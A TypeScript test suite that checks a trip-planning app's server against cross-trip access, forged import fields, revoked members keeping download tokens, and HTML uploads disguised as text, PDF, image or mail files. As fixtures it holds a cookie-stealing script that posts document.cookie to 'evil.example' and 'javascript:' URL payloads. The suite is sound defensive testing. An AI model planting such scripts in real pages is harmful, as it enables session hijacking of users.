/** Attacks on papers and bookings: ids of other trips, forged authors, kept addresses, and pages that would run. */
import { linkId } from '@caravel/sync-protocol/entities/file-link'
import { describe, expect, test } from 'vitest'
import { announce, bodyOf, hashOf, picture, plain, read, send } from '../files/file-world.ts'
import { newId, rowOf, startWorld, type Person, type World } from '../sync/client.ts'

type Row = Record<string, unknown> & { id: string }

/** Tom's trip, that Ana is in, and another of his that she is not in; a place, a booking and a paper in each. */
const stage = async () => {
  const world = await startWorld()
  const make = async (): Promise<{ id: string; at: string; place: Row; booking: Row; paper: Row }> => {
    const id = await world.trip()
    const at = `/api/trips/${id}`
    const post = (path: string, body: object) => world.call(world.tom, 'POST', `${at}/${path}`, body)
    const place = rowOf(await post('places', { name: 'Belém' }), 'place') as Row
    const booking = rowOf(
      await post('reservations', { title: 'Secret dinner', type: 'restaurant', start_date: '2027-05-02' }),
      'reservation',
    ) as Row
    const paper = rowOf(await post('files', announce(plain)), 'file') as Row
    expect((await send(world, world.tom, paper.id, plain)).status).toBe(200)
    return { id, at, place, booking, paper }
  }
  const [shared, secret] = [await make(), await make()]
  const joined = await world.call(world.tom, 'POST', `${shared.at}/members`, { identifier: 'ana' })
  expect(joined.status, joined.text).toBe(201)
  return { world, shared, secret }
}

const rowsOf = async (world: World, path: string, key: string): Promise<Row[]> => {
  const answer = await world.get(world.tom, path)
  expect(answer.status, answer.text).toBe(200)
  return answer.body[key] as Row[]
}

/** All that a trip is, as a device would read it. */
const snapshot = async (world: World, id: string): Promise<string> => {
  const answer = await fetch(`${world.server.url}/api/streams/trip:${id}/snapshot`, {
    headers: { cookie: world.tom.cookie },
  })
  expect(answer.status).toBe(200)
  return (await answer.text())
    .split('\n')
    .filter(line => line.includes('"entity"'))
    .sort()
    .join('\n')
}

describe('a link between a paper and a booking, a place or another thing', () => {
  test('names a paper and a thing of its own trip, by REST and by an import', async () => {
    const { world, shared, secret } = await stage()
    const before = [await snapshot(world, secret.id), await rowsOf(world, `${shared.at}/file-links`, 'links')]
    const link = (paper: Row, body: object, by: Person) =>
      world.call(by, 'POST', `${shared.at}/files/${paper.id}/link`, body)
    for (const by of [world.tom, world.ana])
      for (const [paper, body] of [
        [secret.paper, { place_id: shared.place.id }],
        [shared.paper, { place_id: secret.place.id }],
        [shared.paper, { reservation_id: secret.booking.id }],
        [secret.paper, { reservation_id: secret.booking.id }],
      ] as const)
        expect(await link(paper, body, by)).toMatchObject({ status: 404, body: { code: 'NOT_FOUND' } })
    const rows = [
      [secret.paper, 'place_id', shared.place],
      [shared.paper, 'place_id', secret.place],
      [shared.paper, 'reservation_id', secret.booking],
    ] as const
    for (const by of [world.tom, world.ana])
      for (const [paper, target, of] of rows) {
        const row = { id: linkId(paper.id, of.id), file_id: paper.id, [target]: of.id }
        const answer = await world.call(by, 'POST', '/api/trips/imports', {
          id: shared.id,
          rows: [{ entity: 'file_link', row }],
        })
        expect(answer.status, answer.text).toBeLessThan(500)
      }
    expect([
      await snapshot(world, secret.id),
      await rowsOf(world, `${shared.at}/file-links`, 'links'),
    ]).toEqual(before)
  })

  test('is taken away from its own trip alone', async () => {
    const { world, shared, secret } = await stage()
    const made = await world.call(world.tom, 'POST', `${secret.at}/files/${secret.paper.id}/link`, {
      place_id: secret.place.id,
    })
    expect(made.status, made.text).toBe(200)
    const id = linkId(secret.paper.id, secret.place.id)
    const before = await snapshot(world, secret.id)
    for (const [at, paper] of [
      [shared.at, secret.paper],
      [shared.at, shared.paper],
      [secret.at, secret.paper],
    ] as const)
      await world.call(world.ana, 'DELETE', `${at}/files/${paper.id}/link/${id}`)
    expect(await snapshot(world, secret.id)).toBe(before)
  })
})

describe('confirming an import of bookings', () => {
  const confirm = (world: World, by: Person, at: string, body: object) =>
    world.call(by, 'POST', `${at}/reservations/import/booking/confirm`, body)

  test('changes no booking of another trip, named by its id or by all that tells it', async () => {
    const { world, shared, secret } = await stage()
    const before = await snapshot(world, secret.id)
    const item = { title: 'Secret dinner', type: 'restaurant', start_date: '2027-05-02', notes: 'taken over' }
    for (const by of [world.tom, world.ana]) {
      const named = await confirm(world, by, shared.at, {
        items: [{ ...item, reservation_id: secret.booking.id }],
      })
      expect(named.status, named.text).toBeLessThan(500)
      expect(JSON.stringify(named.body)).not.toContain(secret.booking.id)
    }
    expect(await confirm(world, world.ana, secret.at, { items: [item] })).toMatchObject({ status: 403 })
    expect(await snapshot(world, secret.id)).toBe(before)
  })

  test('takes no trip, author, number or paper of another from its items', async () => {
    const { world, shared, secret } = await stage()
    const before = [await snapshot(world, secret.id), await snapshot(world, shared.id)]
    const item = { title: 'Fado', type: 'event' }
    const paper = announce(plain)
    for (const body of [
      { items: [{ ...item, trip_id: secret.id }] },
      { items: [{ ...item, id: secret.booking.id }] },
      { items: [{ ...item, updated_by: world.tom.id }] },
      { items: [{ ...item, created_at: 1 }] },
      { items: [{ ...item, version: 99 }] },
      { items: [{ ...item, place_id: secret.place.id }] },
      { items: [{ ...item, travellers: [{ user_id: world.ines.id }] }] },
      { items: [item], files: [{ ...paper, created_by: world.tom.id }] },
      { items: [item], files: [{ ...paper, state: 'stored' }] },
      { items: [item], files: [{ ...paper, name: 'page.html' }] },
      { items: [item], files: [{ ...paper, mime: 'text/html' }] },
      { items: [{ ...item, link: 'javascript:alert(1)' }] },
      { items: [{ ...item, place: { name: 'Fado', website: 'javascript:alert(1)' } }] },
    ]) {
      const answer = await confirm(world, world.ana, shared.at, body)
      expect([400, 404, 422].includes(answer.status), `${JSON.stringify(body)}: ${answer.text}`).toBe(true)
    }
    expect([await snapshot(world, secret.id), await snapshot(world, shared.id)]).toEqual(before)
    // A paper that is not in this trip is left out, as one that was deleted meanwhile.
    const items = [{ ...item, title: 'Sé', file_ids: [secret.paper.id] }]
    expect((await confirm(world, world.ana, shared.at, { items })).status).toBe(201)
    expect(JSON.stringify(await snapshot(world, shared.id))).not.toContain(secret.paper.id)
    expect(await snapshot(world, secret.id)).toEqual(before[0])
    const own = await confirm(world, world.ana, shared.at, { items: [item], files: [paper] })
    expect(own.status, own.text).toBe(201)
    expect(rowOf(await world.get(world.tom, `${shared.at}/files/${paper.id}`), 'file')).toMatchObject({
      created_by: world.ana.id,
      state: 'announced',
    })
  })

  test('announces no paper under the id of one elsewhere, and reads nothing of it', async () => {
    const { world, shared, secret } = await stage()
    const before = await snapshot(world, secret.id)
    const { sha256 } = secret.paper as unknown as { sha256: string }
    const paper = { ...announce(plain), id: secret.paper.id, sha256 }
    const answer = await confirm(world, world.ana, shared.at, {
      items: [{ title: 'Fado', type: 'event', file_ids: [paper.id] }],
      files: [paper],
    })
    expect(answer.status, answer.text).toBeGreaterThanOrEqual(400)
    expect(answer.status).toBeLessThan(500)
    expect((await read(world, world.ana, secret.paper.id)).status).toBe(403)
    expect(await snapshot(world, secret.id)).toBe(before)
  })

  test('brings places, costs and papers only with the right to each of them', async () => {
    const { world, shared } = await stage()
    const before = await snapshot(world, shared.id)
    const item = { title: 'Fado', type: 'event', start_date: '2027-05-03' }
    for (const [action, body] of [
      ['place_edit', { items: [{ ...item, place: { name: 'Clube' } }] }],
      ['budget_edit', { items: [{ ...item, price: { amount: 100, currency: 'EUR' } }] }],
      ['file_upload', { items: [item], files: [announce(plain)] }],
      ['file_edit', { items: [{ ...item, file_ids: [shared.paper.id] }] }],
    ] as const) {
      await world.call(world.ines, 'PUT', `/api/levels/${action}`, { level: 'trip_owner' })
      expect(await confirm(world, world.ana, shared.at, body), action).toMatchObject({
        status: 403,
        body: { code: 'FORBIDDEN', action },
      })
      await world.call(world.ines, 'PUT', `/api/levels/${action}`, { level: 'trip_member' })
    }
    expect(await snapshot(world, shared.id)).toBe(before)
  })
})

test('a former member reads no bytes, by any address or token that they kept', async () => {
  const { world, shared } = await stage()
  const { id } = shared.paper
  const token = async () =>
    String(
      (await world.call(world.ana, 'POST', '/api/auth/resource-token', { purpose: 'download' })).body[
        'token'
      ],
    )
  const address = `${world.server.url}/api/files/${id}/content`
  const was = await read(world, world.ana, id)
  const etag = was.headers.get('etag') ?? ''
  expect([was.status, etag.length > 2]).toEqual([200, true])
  await was.arrayBuffer()
  const [kept, another] = [await token(), await token()]
  await world.call(world.tom, 'DELETE', `${shared.at}/members/${world.ana.id}`)
  const later = await token()
  const asked: [string, RequestInit][] = [
    [address, { headers: { cookie: world.ana.cookie } }],
    [`${address}?download=1`, { headers: { cookie: world.ana.cookie } }],
    [address, { headers: { cookie: world.ana.cookie, 'if-none-match': etag } }],
    [address, { headers: { cookie: world.ana.cookie, range: 'bytes=0-9' } }],
    [address, { headers: { cookie: world.ana.cookie, range: 'bytes=0-9', 'if-range': etag } }],
    [address, { method: 'HEAD', headers: { cookie: world.ana.cookie } }],
    [`${address}?token=${kept}`, {}],
    [`${address}?token=${another}&download=1`, { headers: { 'if-none-match': etag } }],
    [`${address}?token=${later}`, {}],
  ]
  for (const [url, init] of asked) {
    const answer = await fetch(url, init)
    expect([answer.status, answer.headers.get('etag')], JSON.stringify(init)).toEqual([403, null])
    expect(Buffer.from(await answer.arrayBuffer()).includes(plain.subarray(0, 20))).toBe(false)
  }
})

describe('a page with scripts', () => {
  const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>'
  const page = `<!doctype html><html><body>${script}</body></html>`
  const disguises = {
    'as text': { bytes: page, name: 'ticket.txt', mime: 'text/plain' },
    'as text after spaces': { bytes: `\n\n   ${page}`, name: 'ticket.txt', mime: 'text/plain' },
    'as text after a comment': { bytes: `<!-- a -->${page}`, name: 'ticket.txt', mime: 'text/plain' },
    'as a picture': { bytes: page, name: 'ticket.jpg', mime: 'image/jpeg' },
    'as a paper': { bytes: page, name: 'ticket.pdf', mime: 'application/pdf' },
    'as a mail': { bytes: page, name: 'ticket.eml', mime: 'message/rfc822' },
    'as a table': { bytes: page, name: 'ticket.csv', mime: 'text/csv' },
    'as a calendar': { bytes: page, name: 'ticket.ics', mime: 'text/calendar' },
    'inside a text': { bytes: `Ticket\n${page}`, name: 'ticket.txt', mime: 'text/plain' },
    'inside a mail': {
      bytes: `From: a@example.org\r\nContent-Type: text/html\r\n\r\n${page}`,
      name: 'ticket.eml',
      mime: 'message/rfc822',
    },
    'behind the head of a paper': {
      bytes: `%PDF-1.7\n${page}`,
      name: 'ticket.pdf',
      mime: 'application/pdf',
    },
    'behind the head of a picture': {
      bytes: Buffer.concat([picture('plain.jpg'), Buffer.from(page)]),
      name: 'ticket.jpg',
      mime: 'image/jpeg',
    },
  }

  test('is refused whatever it calls itself, or served so that nothing of it runs', async () => {
    const { world, shared } = await stage()
    const outcomes: Record<string, string> = {}
    for (const [disguise, it] of Object.entries(disguises)) {
      const bytes = Buffer.from(it.bytes)
      const row = { id: newId(), name: it.name, mime: it.mime, size: bytes.length, sha256: hashOf(bytes) }
      expect((await world.call(world.ana, 'POST', `${shared.at}/files`, row)).status).toBe(201)
      const sent = await send(world, world.ana, row.id, bytes)
      const answer = await bodyOf(sent)
      outcomes[disguise] = sent.status < 300 ? 'served' : String(answer['code'])
      for (const more of ['', '?download=1']) {
        const got = await fetch(`${world.server.url}/api/files/${row.id}/content${more}`, {
          headers: { cookie: world.tom.cookie },
        })
        await got.arrayBuffer()
        const headers = Object.fromEntries(got.headers)
        expect(headers['x-content-type-options'], disguise).toBe('nosniff')
        expect(headers['content-type'], disguise).not.toMatch(/html|xml|javascript|svg/)
        if (sent.status >= 300) {
          expect(got.status, disguise).toBe(404)
          continue
        }
        expect(headers['content-security-policy'], disguise).toBe("default-src 'none'; sandbox")
        const shown = headers['content-type'] === 'image/jpeg' && !more
        expect(headers['content-disposition'], disguise).toMatch(shown ? /^inline;/ : /^attachment;/)
      }
    }
    expect(outcomes).toEqual({
      'as text': 'FILE_TYPE_REFUSED',
      'as text after spaces': 'FILE_TYPE_REFUSED',
      'as text after a comment': 'FILE_TYPE_REFUSED',
      'as a picture': 'FILE_TYPE_REFUSED',
      'as a paper': 'FILE_TYPE_REFUSED',
      'as a mail': 'FILE_TYPE_REFUSED',
      'as a table': 'FILE_TYPE_REFUSED',
      'as a calendar': 'FILE_TYPE_REFUSED',
      'inside a text': 'FILE_TYPE_REFUSED',
      'inside a mail': 'served',
      'behind the head of a paper': 'served',
      'behind the head of a picture': 'served',
    })
  })

  test('is announced under no name of a page', async () => {
    const { world, shared } = await stage()
    const bytes = Buffer.from(page)
    for (const name of ['a.html', 'a.HTM', 'a.xhtml', 'a.svg', 'a.html ', 'a.txt.html'])
      for (const mime of ['text/html', 'text/plain', 'TEXT/HTML']) {
        const row = { id: newId(), name, mime, size: bytes.length, sha256: hashOf(bytes) }
        const answer = await world.call(world.ana, 'POST', `${shared.at}/files`, row)
        expect(answer, name).toMatchObject({ status: 400, body: { code: 'FILE_TYPE_REFUSED' } })
      }
  })
})
